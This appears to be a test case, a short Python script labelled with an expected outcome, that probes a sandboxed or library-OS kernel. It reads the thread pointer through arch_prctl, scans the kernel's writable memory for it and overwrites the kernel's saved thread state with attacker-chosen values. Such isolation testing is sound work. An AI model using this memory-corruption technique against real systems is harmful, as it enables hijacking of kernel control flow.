# class: image | kind: server
# expect: the kernel's own notes about its thread are overwritten, so that what is written down when it sleeps has registers and addresses of an attacker's choice: it wakes or is lost, and says so; nobody else notices
import ctypes, struct; L = ctypes.CDLL(None); fs = ctypes.c_uint64(); L.syscall(158, 0x1003, ctypes.byref(fs)); n = 0
for l in open('/proc/self/maps'):
    m = l.split(); a, b = (int(x, 16) for x in m[0].split('-'))
    if m[1][:2] != 'rw' or a >= 0x20000000: continue      # the kernel program
    d = ctypes.string_at(a, b - a); at = d.find(struct.pack('<Q', fs.value))
    while at >= 0:
        if at % 8 == 0: ctypes.memmove(a + at, struct.pack('<5Q', *[0x4141414141414000 + i for i in range(5)]), 40); n += 1
        at = d.find(struct.pack('<Q', fs.value), at + 8)
print('READY: %d places overwritten' % n)
